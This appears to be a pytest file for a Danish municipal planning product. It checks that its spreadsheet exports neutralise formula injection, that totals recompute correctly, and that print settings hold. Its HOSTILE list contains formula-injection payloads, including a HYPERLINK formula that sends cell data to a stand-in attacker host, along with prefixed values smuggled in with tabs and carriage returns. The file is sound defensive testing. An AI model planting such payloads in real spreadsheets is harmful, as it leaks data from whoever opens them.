"""The one spreadsheet writer: every XLSX and CSV the product makes, read back.

Formula-like titles, unit names, theme names, scenario names, indicator names, budget notes,
strategy texts and case titles go in; no cell comes out as a formula except the totals the
writer makes itself, whose cached values equal the report's figures. Rates are fractions with
a % format, and every sheet has its print setup."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from indsats.budgets.models import BudgetNote
from indsats.budgets.transfer import BUDGET, budget_export, budget_rows
from indsats.casebank.models import Case
from indsats.casebank.transfer import CASE_FORMAT, case_export, case_import, case_rows
from indsats.core import spreadsheet
from indsats.core.transfer import csv_bytes
from indsats.indicators.models import Indicator
from indsats.indicators.transfer import INDICATOR_FORMAT, indicator_export, indicator_rows
from indsats.initiatives import optimiser
from indsats.initiatives.models import CostLine, Initiative, Scenario, Theme
from indsats.initiatives.transfer import columns as catalogue
from indsats.initiatives.transfer.export import catalogue_export, catalogue_rows
from indsats.organisations.models import Unit
from indsats.reports import optimisation, prioritisation, status, strategy
from indsats.strategies.models import Strategy, StrategyFocusArea, SuccessCriterion
from indsats.students.transfer_totals import TOTALS_FORMAT, totals_export, totals_rows
from tests.reports import status_data, strategy_data

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=1+1",
    "+1+1",
    "-1+1 Fastholdelse",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]

# The only formulas the writer makes: sums of cell references, and one difference.
PRODUCT_FORMULA = re.compile(
    r"^=(SUM\(([A-Z]+[0-9]+(:[A-Z]+[0-9]+)?)(,[A-Z]+[0-9]+(:[A-Z]+[0-9]+)?)*\)|[A-Z]+[0-9]+-[A-Z]+[0-9]+|0)$"
)


def _poison(model, field: str, queryset=None) -> None:
    """Prefix every row's text with one of the hostile strings (test data, set directly)."""
    for i, obj in enumerate(queryset if queryset is not None else model.objects.all()):
        value = HOSTILE[i % len(HOSTILE)] + " " + (getattr(obj, field) or "x")
        max_length = getattr(model._meta.get_field(field), "max_length", None)
        model.objects.filter(pk=obj.pk).update(
            **{field: value[:max_length] if max_length else value}
        )


def _poison_everything() -> None:
    for model, field in (
        (Initiative, "title"),
        (Unit, "name"),
        (Theme, "name"),
        (Scenario, "name"),
        (CostLine, "label"),
        (Indicator, "name"),
        (BudgetNote, "title"),
        (Strategy, "title"),
        (StrategyFocusArea, "name"),
        (SuccessCriterion, "statement"),
    ):
        _poison(model, field)


def _cases() -> None:
    header = [c.header for c in CASE_FORMAT.sheets[0].columns]
    rows = []
    for i, text in enumerate(HOSTILE):
        row = dict.fromkeys(header, "")
        row.update({"Kommune": f"{text} Kommune", "Titel": f"{text} case {i}", "Resumé": text})
        rows.append(row)
    data = csv_bytes(CASE_FORMAT.sheets[0], [])  # the header, as the template gives it
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    for row in rows:
        writer.writerow([spreadsheet.csv_text(row[h]) for h in header])
    result = case_import(actor=None, file=data + out.getvalue().encode("utf-8"), file_name="c.csv")
    assert result.created == len(HOSTILE)


@pytest.fixture
def products(ballerup, org, other_org):
    """Every XLSX the product makes, by name, over organisations full of hostile texts."""
    built = status_data.build(org)
    status_data.report_round(built, 2)
    fredrikssund = strategy_data.frederikssund(other_org)
    _cases()
    _poison_everything()
    fredrikssund.refresh_from_db()
    return {
        "prioritering": prioritisation.render_xlsx(
            prioritisation.build_prioritisation(organisation=ballerup, year=2020)
        ),
        "status": status.render_xlsx(
            status.build_status_report(organisation=org, as_of=status_data.ROUND_2)
        ),
        "strategi": strategy.render_xlsx(strategy.build_strategy_report(fredrikssund, year=2024)),
        "strategi-delt": strategy.render_xlsx(
            strategy.build_strategy_report(fredrikssund, year=2024, shared=True)
        ),
        "katalog": catalogue_export(ballerup),
        "budget": budget_export(org),
        "indikatorer-status": indicator_export(org),
        "indikatorer-ballerup": indicator_export(ballerup),
        "elevtal": totals_export(other_org),
        "cases": case_export(),
        "optimering": optimisation.render_xlsx(
            optimisation.build_optimisation(
                optimiser.optimisation(organisation=ballerup, year=2020, with_frontier=False)
            )
        ),
    }


def _formula_cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    yield ws.title, cell


def _texts(content: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(content))
    return [
        c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
        if isinstance(c.value, str)
    ]  # fmt: skip


def test_no_hostile_text_comes_out_of_any_xlsx_as_a_formula(products):
    for name, content in products.items():
        formulas = [(title, c.coordinate, c.value) for title, c in _formula_cells(content)]
        hostile = [f for f in formulas if not PRODUCT_FORMULA.match(str(f[2]))]
        assert hostile == [], name
    # The hostile texts are in the files, as text (the test would pass on empty files).
    for name in ("prioritering", "status", "strategi", "katalog", "budget", "cases"):
        texts = _texts(products[name])
        assert any(t.startswith("=HYPERLINK(") for t in texts), name
        assert any(t.startswith(("+1+1", "-1+1", "@SUM")) for t in texts), name


def test_the_sweep_turns_a_forgotten_formula_into_text():
    from openpyxl import Workbook

    wb = Workbook()
    wb.active["A1"] = "=1+1"  # a writer that forgot set_text
    content = spreadsheet.workbook_bytes(wb)
    cell = load_workbook(io.BytesIO(content)).active["A1"]
    assert (cell.data_type, cell.value) == ("s", "=1+1")


def _csv_cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


NUMBER = re.compile(r"^-?[0-9]+(,[0-9]+)?$")


def test_no_csv_field_would_run_as_a_formula(products, ballerup, org, other_org):
    files = []
    for file_format, rows in (
        (catalogue.CATALOGUE, catalogue_rows(ballerup)),
        (BUDGET, budget_rows(org)),
        (INDICATOR_FORMAT, indicator_rows(org)),
        (TOTALS_FORMAT, totals_rows(other_org)),
        (CASE_FORMAT, case_rows()),
    ):
        for sheet in file_format.sheets:
            files.append((sheet.title, csv_bytes(sheet, rows.get(sheet.title, []))))
    guarded = 0
    for title, data in files:
        for line in _csv_cells(data):
            for value in line:
                if value.startswith(spreadsheet.FORMULA_STARTS):
                    assert NUMBER.match(value), (title, value)  # a negative number stays a number
                guarded += value.startswith("'=") or value.startswith("'+")
    assert guarded > 10


def test_a_guarded_csv_comes_back_as_the_same_title():
    """The apostrophe is for the spreadsheet program; the import takes it off again."""
    _cases()
    titles = set(Case.objects.values_list("title", flat=True))
    assert '=HYPERLINK("http://evil.example/?x="&A1,"klik") case 0' in titles
    assert "\t=1+1 case 5" in titles


# --- one style ---------------------------------------------------------------------------


def _evaluate(expression: str, values) -> Decimal:
    """A product formula (``=SUM(G6:G9,G12)``, ``=P7-K7``, ``=0``) over the cells' values."""
    from openpyxl.utils.cell import range_boundaries

    def cells(ref: str):
        min_col, min_row, max_col, max_row = range_boundaries(ref)
        for r in range(min_row, max_row + 1):
            for c in range(min_col, max_col + 1):
                v = values.cell(row=r, column=c).value
                yield Decimal(str(v)) if isinstance(v, int | float | Decimal) else Decimal(0)

    body = expression[1:]
    if body == "0":
        return Decimal(0)
    if body.startswith("SUM("):
        return sum((sum(cells(ref), Decimal(0)) for ref in body[4:-1].split(",")), Decimal(0))
    left, right = body.split("-")
    return next(cells(left)) - next(cells(right))


def _recomputed(content: bytes) -> dict[str, int]:
    """Recompute every formula of a workbook from the cached values of the cells it names and
    compare with its own cached value; the number of formulas per sheet."""
    formulas = load_workbook(io.BytesIO(content))
    cached = load_workbook(io.BytesIO(content), data_only=True)
    counts: dict[str, int] = {}
    for ws in formulas.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type != "f":
                    continue
                value = cached[ws.title][cell.coordinate].value
                assert value is not None, cell.coordinate
                assert _evaluate(cell.value, cached[ws.title]) == Decimal(str(value)), (
                    ws.title,
                    cell.coordinate,
                    cell.value,
                )
                counts[ws.title] = counts.get(ws.title, 0) + 1
    return counts


def test_totals_are_formulas_whose_cached_values_are_the_figures(products):
    # every step: seven total columns, cumulated rows, frames, grand total
    assert sum(_recomputed(products["prioritering"]).values()) >= 30
    # The strategy workbook's "I alt" rows (dropout per phase, causes, places of hire).
    internal = _recomputed(products["strategi"])
    assert len(internal) >= 3 and sum(internal.values()) >= 6, internal
    # In the internal report nothing is hidden: every "I alt" figure is a formula.
    for ws in load_workbook(io.BytesIO(products["strategi"])).worksheets:
        for row in ws.iter_rows(min_row=6):
            if any(c.value == "I alt" for c in row):
                figures = [
                    c
                    for c in row
                    if c.data_type == "f" or (isinstance(c.value, int) and c.number_format != "0")
                ]
                assert figures and all(c.data_type == "f" for c in figures), (ws.title, row)
    # Shared: a total is a formula only where every part is shown (a hidden "<5" counts as 0
    # in a formula, so a total over it would not recompute to its figure).
    _recomputed(products["strategi-delt"])


def test_rates_are_fractions_with_a_percent_format(products):
    seen, fractions = 0, {}
    for name in ("status", "strategi", "strategi-delt"):
        wb = load_workbook(io.BytesIO(products[name]))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    fmt = cell.number_format or ""
                    assert '" %"' not in fmt, (name, ws.title, cell.coordinate)
                    if "%" in fmt and isinstance(cell.value, int | float | Decimal):
                        # 151,9 % (intake over the dimensioning) is 1.519; 41,46 % is 0.4146
                        assert -5 <= float(cell.value) <= 5, (name, cell.coordinate)
                        seen += 1
                        fractions[name] = fractions.get(name, 0) + (0 < cell.value < 1)
    assert seen > 20
    assert all(fractions.get(name) for name in ("status", "strategi", "strategi-delt"))


def test_every_sheet_has_print_setup_and_frozen_headers(products):
    for name, content in products.items():
        wb = load_workbook(io.BytesIO(content))
        for ws in wb.worksheets:
            setup = ws.page_setup
            assert setup.orientation == "landscape", (name, ws.title)
            assert setup.fitToWidth == 1 and setup.fitToHeight == 0, (name, ws.title)
            # Fitted to the width, a wide sheet goes on A3 so its text is not 5 pt.
            wide = spreadsheet.sheet_width(ws) > spreadsheet.WIDE_SHEET
            if name in ("prioritering", "status", "strategi", "optimering"):
                assert (str(setup.paperSize) == ws.PAPERSIZE_A3) == wide, (name, ws.title)
            # Every styled cell names its font (no serif fallback in LibreOffice).
            assert all(c.font.name for row in ws.iter_rows() for c in row if c.has_style), (
                name,
                ws.title,
            )
            assert ws.sheet_properties.pageSetUpPr.fitToPage, (name, ws.title)
            if ws.freeze_panes:
                header_row = int(re.sub(r"[A-Z]", "", ws.freeze_panes)) - 1
                assert ws.print_title_rows == f"${header_row}:${header_row}", (name, ws.title)
                widths = [d.width for d in ws.column_dimensions.values() if d.width]
                assert widths, (name, ws.title)
